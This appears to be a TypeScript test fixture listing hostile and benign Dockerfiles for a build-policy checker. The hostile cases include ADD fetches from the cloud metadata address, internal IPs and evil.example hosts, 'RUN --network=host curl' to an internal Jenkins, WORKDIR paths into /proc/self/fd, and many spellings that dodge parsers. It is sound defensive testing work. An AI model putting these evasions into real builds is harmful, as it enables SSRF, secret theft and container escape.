import type { BaseImageConfig } from '../../src/dockerfile/policy.js';

/**
 * Dockerfiles that try to make the engine fetch something or start a container in a kernel directory, by every
 * position a variable can take and every spelling the builder accepts. Each is refused at exactly `lines`.
 * Kept apart from the tests so the same list can be run against an older policy.
 */
export interface HostileCase {
  title: string;
  text: string;
  /** Every line the policy must report (and no other). */
  lines: number[];
  buildArgs?: Record<string, string>;
  /** Replaces the default (every base as Kiln makes it). */
  baseConfigs?: Record<string, BaseImageConfig>;
}

const B = 'FROM debian:bookworm\n';
const META = 'http://169.254.169.254/latest/meta-data/';

export const HOSTILE: HostileCase[] = [
  // FROM: only global ARGs and --build-arg reach it.
  {
    title: 'FROM ${B:+registry/x} (the alternate, which substitute() used to invert)',
    text: 'ARG B=1\nFROM ${B:+registry.example/x}\n',
    lines: [2],
  },
  { title: 'FROM ${B:-evil/img} with B declared but empty', text: 'ARG B\nFROM ${B:-evil/img}\n', lines: [2] },
  {
    title: 'case 39: FROM 10.0.0.5:5000/img through a --build-arg overriding an allowed default',
    text: 'ARG IMG=debian:bookworm\nFROM $IMG\n',
    lines: [2],
    buildArgs: { IMG: '10.0.0.5:5000/img' },
  },
  { title: 'case 39: FROM 10.0.0.5:5000/img written out', text: 'FROM 10.0.0.5:5000/img\n', lines: [1] },
  {
    title: 'FROM $HTTP_PROXY: a built-in proxy arg needs no ARG',
    text: 'FROM $HTTP_PROXY\n',
    lines: [1],
    buildArgs: { HTTP_PROXY: 'evil.example/x' },
  },
  {
    title: 'FROM debian:${V} with a tag that differs only in case (another image, pulled)',
    text: 'ARG V=bookworm\nFROM debian:${V}\n',
    lines: [2],
    buildArgs: { V: 'BOOKWORM' },
  },
  {
    title: 'FROM registry-1.docker.io/library/debian:bookworm (another registry name)',
    text: 'FROM registry-1.docker.io/library/debian:bookworm\n',
    lines: [1],
  },
  {
    title: 'FROM an allowed tag pinned to a digest',
    text: `FROM debian:bookworm@sha256:${'a'.repeat(64)}\n`,
    lines: [1],
  },
  { title: 'FROM with quotes the lexer removes', text: "FROM 'evil'/x\n", lines: [1] },
  { title: 'FROM a stage that is only defined later', text: 'FROM later\nFROM debian:bookworm AS later\n', lines: [1] },
  { title: 'FROM 0 (FROM takes no stage index)', text: `${B}FROM 0\n`, lines: [2] },
  {
    title: 'FROM split by a backtick continuation under # escape=`',
    text: '# escape=`\nFROM ev`\n  il.example/x\n',
    lines: [2],
  },
  {
    title: 'from in lower case, global ARG with a default of a default',
    text: 'ARG A\nARG B=${A:-evil.example/x}\nfrom $B\n',
    lines: [3],
  },
  // ADD sources: expanded with ENV, declared ARGs and --build-arg.
  {
    title: 'case 39: ADD $U with ARG U=http://169.254.169.254/...',
    text: `${B}ARG U=${META}\nADD $U /x\n`,
    lines: [3],
  },
  { title: 'ADD ${X:-http://...}', text: `${B}ADD \${X:-http://10.0.0.1/} /x\n`, lines: [2] },
  { title: 'ADD ${S:+http://...}', text: `${B}ARG S=1\nADD \${S:+http://10.0.0.1/} /x\n`, lines: [3] },
  {
    title: 'ADD $U with --build-arg U overriding a declared ARG without default',
    text: `${B}ARG U\nADD $U /x\n`,
    lines: [3],
    buildArgs: { U: 'http://10.0.0.1/' },
  },
  { title: 'ADD through an ENV chain', text: `${B}ENV A=http://\nENV B=\${A}10.0.0.1/\nADD $B /x\n`, lines: [4] },
  {
    title: 'ADD with the scheme in one ENV and the host in the word',
    text: `${B}ENV H=http:\nADD $H//10.0.0.1/x /y\n`,
    lines: [3],
  },
  { title: 'ADD JSON form with a variable', text: `${B}ARG U=http://10.0.0.1/\nADD ["$U", "/x"]\n`, lines: [3] },
  {
    title: 'ADD JSON form with quotes the lexer removes, and trailing text the builder ignores',
    text: `${B}ADD ["'http://10.0.0.1/'", "/x"] ignored\n`,
    lines: [2],
  },
  { title: 'ADD with an escape inside the scheme', text: `${B}ADD h\\ttp://10.0.0.1/ /x\n`, lines: [2] },
  {
    title: 'ADD across continuation lines, with a comment inside',
    text: `${B}ADD \\\n  # a comment\n  http://10.0.0.1/ \\\n  /x\n`,
    lines: [2],
  },
  { title: 'aDd with a flag, mixed case', text: `${B}aDd --chown=1:1 http://10.0.0.1/ /x\n`, lines: [2] },
  { title: 'ADD of a double-quoted URL', text: `${B}ADD "http://10.0.0.1/" /x\n`, lines: [2] },
  {
    title: 'ADD with a byte order mark before the URL (the builder drops it)',
    text: `${B}ADD \uFEFFhttp://10.0.0.1/ /x\n`,
    lines: [2],
  },
  {
    title: 'ADD after # escape=` with the backtick escaping the scheme',
    text: '# escape=`\nFROM debian:bookworm\nADD h`ttp://10.0.0.1/ /x\n',
    lines: [3],
  },
  // COPY --from is not expanded: it must literally name an earlier stage.
  { title: 'COPY --from=an image', text: `${B}COPY --from=registry.example/x /a /b\n`, lines: [2] },
  { title: 'COPY --from with quotes around the image', text: `${B}COPY --from="nginx" /a /b\n`, lines: [2] },
  {
    title: 'COPY --from=$S (never expanded: an image named $S)',
    text: 'FROM debian:bookworm AS a\nFROM debian:bookworm\nARG S=a\nCOPY --from=$S /a /b\n',
    lines: [4],
  },
  {
    title: 'COPY --from a stage defined later',
    text: `${B}COPY --from=later /a /b\nFROM debian:bookworm AS later\n`,
    lines: [2],
  },
  { title: 'COPY --from an index out of range', text: `${B}COPY --from=5 /a /b\n`, lines: [2] },
  { title: 'COPY --FROM in upper case (the builder refuses the flag)', text: `${B}COPY --FROM=x /a /b\n`, lines: [2] },
  // ONBUILD: checked where it fires, in the child's context, and in Kiln's own layer on the final image.
  {
    title: 'ONBUILD ADD of a URL firing in a child stage',
    text: `FROM debian:bookworm AS a\nONBUILD ADD http://10.0.0.1/ /x\nFROM a\n`,
    lines: [2],
  },
  {
    title: 'onbuild add in the final stage (fires in the SDK extra layer)',
    text: `${B}onbuild add ${META} /x\n`,
    lines: [2],
  },
  {
    title: 'ONBUILD COPY --from=registry/x in the final stage (fires in the SDK extra layer)',
    text: `${B}ONBUILD COPY --from=registry/x / /\n`,
    lines: [2],
  },
  {
    title: 'ONBUILD COPY --from=<an earlier stage> in the final stage (the extra layer has no stages: an image)',
    text: 'FROM debian:bookworm AS a\nFROM debian:bookworm\nONBUILD COPY --from=a / /\n',
    lines: [3],
  },
  {
    title: 'ONBUILD COPY --from=registry/x firing in a child stage',
    text: 'FROM debian:bookworm AS a\nONBUILD COPY --from=registry/x / /\nFROM a\n',
    lines: [2],
  },
  {
    title: 'ONBUILD ADD $U with U from the parent stage ENV',
    text: 'FROM debian:bookworm AS a\nENV U=http://10.0.0.1/\nONBUILD ADD $U /x\nFROM a\n',
    lines: [3],
  },
  {
    title: 'case 43: ONBUILD WORKDIR /proc/self/fd/7 in the final stage',
    text: `${B}ONBUILD WORKDIR /proc/self/fd/7\n`,
    lines: [2],
  },
  {
    title: 'case 43: ONBUILD WORKDIR $D with ENV D=/proc/self/fd/7 in the parent',
    text: 'FROM debian:bookworm AS a\nENV D=/proc/self/fd/7\nONBUILD WORKDIR $D\nFROM a\n',
    lines: [3],
  },
  {
    title: 'case 37: ONBUILD RUN --network=host',
    text: `FROM debian:bookworm AS a\nONBUILD RUN --network=host curl http://jenkins:8080\nFROM a\n`,
    lines: [2],
  },
  {
    title: 'ONBUILD ADD $HTTP_PROXY: a built-in arg reaches a trigger before any ARG',
    text: 'FROM debian:bookworm AS a\nONBUILD ADD $HTTP_PROXY /x\nFROM a\n',
    lines: [2],
    buildArgs: { HTTP_PROXY: 'http://10.0.0.1/' },
  },
  {
    title: 'ONBUILD under # escape=`, the child expanding with the backtick',
    text: '# escape=`\nFROM debian:bookworm AS a\nONBUILD ADD h`ttp://10.0.0.1/ /x\nFROM a\n',
    lines: [3],
  },
  {
    title: 'ONBUILD continued over lines',
    text: 'FROM debian:bookworm AS a\nONBUILD ADD \\\n  http://10.0.0.1/ /x\nFROM a\n',
    lines: [2],
  },
  {
    title: 'ONBUILD ARG then ONBUILD ADD in the child',
    text: 'FROM debian:bookworm AS a\nONBUILD ARG U=http://10.0.0.1/\nONBUILD ADD $U /x\nFROM a\n',
    lines: [3],
  },
  // WORKDIR: the working directory the runtime gets, after expansion and joining.
  {
    title: 'case 43: ENV D=/proc/self/fd/7 then WORKDIR $D',
    text: `${B}ENV D=/proc/self/fd/7\nWORKDIR $D\n`,
    lines: [3],
  },
  { title: 'case 43: WORKDIR /proc/self/fd/7 through ..', text: `${B}WORKDIR /srv/../proc/self/fd/7\n`, lines: [2] },
  {
    title: 'case 43: WORKDIR $D with --build-arg D overriding the ARG default',
    text: `${B}ARG D=/srv\nWORKDIR $D\n`,
    lines: [3],
    buildArgs: { D: '/proc/self/fd/7' },
  },
  { title: 'WORKDIR ${X:-/sys/kernel}', text: `${B}WORKDIR \${X:-/sys/kernel}\n`, lines: [2] },
  { title: 'WORKDIR relative, joining into /proc', text: `${B}WORKDIR /\nWORKDIR proc/self/fd/7\n`, lines: [3] },
  { title: 'WORKDIR with a byte order mark before /proc', text: `${B}WORKDIR \uFEFF/proc/self/fd/7\n`, lines: [2] },
  { title: 'WORKDIR "/dev/shm" quoted', text: `${B}WORKDIR "/dev/shm"\n`, lines: [2] },
  {
    title: 'WORKDIR relative in a stage FROM a stage that ended in /sys',
    text: 'FROM debian:bookworm AS a\nWORKDIR /sys\nFROM a\nWORKDIR fs\n',
    lines: [2, 4],
  },
  // RUN flags (the legacy builder would refuse them too; BuildKit would grant network.host by default).
  {
    title: 'case 37: RUN --network=host at the policy',
    text: `${B}RUN --network=host curl http://jenkins:8080\n`,
    lines: [2],
  },
  { title: 'RUN --mount=type=cache', text: `${B}RUN --mount=type=cache,target=/x true\n`, lines: [2] },
  // Parser directives (case 38).
  {
    title: 'case 38: # syntax=evil/frontend:latest',
    text: '# syntax=evil/frontend:latest\nFROM debian:bookworm\n',
    lines: [1],
  },
  {
    title: 'case 38: #SYNTAX = in upper case after an escape directive',
    text: '# escape=`\n#SYNTAX = evil/x\nFROM debian:bookworm\n',
    lines: [2],
  },
  // What cannot be decided statically.
  {
    title: 'ADD $SRC on a base whose ENV is unknown (its ENV would shadow the ARG)',
    text: `${B}ARG SRC=local.txt\nADD $SRC /x\n`,
    lines: [3],
    baseConfigs: {},
  },
  {
    title: 'WORKDIR relative to a base whose WORKDIR is unknown, and WORKDIR $X',
    text: `${B}WORKDIR $X\nWORKDIR app\n`,
    lines: [2, 3],
    baseConfigs: {},
  },
  {
    title: 'a base image whose own ONBUILD adds a URL',
    text: B,
    lines: [1],
    baseConfigs: { 'debian:bookworm': { env: [], workdir: '', onbuild: [`ADD ${META} /x`] } },
  },
  {
    title: 'ADD $MIRROR where the base image sets MIRROR',
    text: `${B}ADD $MIRROR /x\n`,
    lines: [2],
    baseConfigs: { 'debian:bookworm': { env: ['MIRROR=http://10.0.0.1/'], workdir: '', onbuild: [] } },
  },
];

/** Must pass: what ordinary Dockerfiles do with variables, stages and triggers. */
export interface BenignCase {
  title: string;
  text: string;
  buildArgs?: Record<string, string>;
  allowRemoteAdd?: boolean;
  bases?: string[];
}

export const BENIGN: BenignCase[] = [
  {
    title: 'a variable naming a local COPY source',
    text: `${B}ARG SRC=app\nCOPY $SRC /app\nCOPY \${OTHER:-conf} /etc/app/\n`,
  },
  { title: 'WORKDIR from ENV, then relative', text: `${B}ENV APP=/srv/app\nWORKDIR $APP\nWORKDIR sub\n` },
  { title: 'FROM with an ARG that resolves to an allowed base', text: 'ARG SUITE=bookworm\nFROM debian:$SUITE\n' },
  {
    title: 'FROM with an ARG that a --build-arg resolves to another allowed base',
    text: 'ARG SUITE=bookworm\nFROM debian:${SUITE}\n',
    buildArgs: { SUITE: 'trixie' },
  },
  {
    title: 'COPY --from=<stage> and --from=0',
    text: 'FROM debian:bookworm AS build\nRUN make\nFROM debian:bookworm\nCOPY --from=build /out /out\nCOPY --from=0 /x /x\nCOPY --from=BUILD /y /y\n',
  },
  {
    title: 'ordinary RUN, with $ the builder leaves to the shell (even forms its lexer refuses)',
    text: `${B}RUN apt-get update && echo $HOME \${X-y} \${Z#a} "$(id -u)"\nRUN ["sh", "-c", "echo $PATH"]\n`,
  },
  {
    title: 'an undeclared --build-arg does not apply',
    text: `${B}ADD \${U:-local.tar} /x\n`,
    buildArgs: { U: 'http://10.0.0.1/' },
  },
  {
    title: 'a build arg of a stage does not leak into the next one',
    text: `FROM debian:bookworm AS a\nARG D=/srv\nFROM debian:bookworm\nWORKDIR \${D:-/app}\n`,
    buildArgs: { D: '/proc/self/fd/7' },
  },
  {
    title: 'remote ADD when the admin allows it',
    text: `${B}ADD https://example.com/a.tgz /x\n`,
    allowRemoteAdd: true,
  },
  {
    title: 'docker.io/library/ spelling of an allowed base, and scratch',
    text: 'FROM docker.io/library/debian:bookworm\nFROM scratch\nCOPY --from=0 / /\n',
  },
  {
    title: 'harmless ONBUILD triggers in the final stage and in a parent',
    text: 'FROM debian:bookworm AS a\nONBUILD RUN echo built\nONBUILD WORKDIR app\nFROM a\nONBUILD COPY . /src\n',
  },
  {
    title: 'the escape directive with continuations and $ in RUN',
    text: '# escape=`\nFROM debian:bookworm\nRUN echo `\n  $HOME `\n  done\nWORKDIR C:\\\\app\n',
  },
  {
    title: 'keywords in any case, JSON forms',
    text: 'from debian:bookworm\ncopy ["a b", "/x/"]\nWorkDir /srv\nentrypoint ["/bin/app"]\n',
  },
  { title: 'a path under /srv that merely contains proc', text: `${B}WORKDIR /srv/proc\nWORKDIR /device\n` },
];
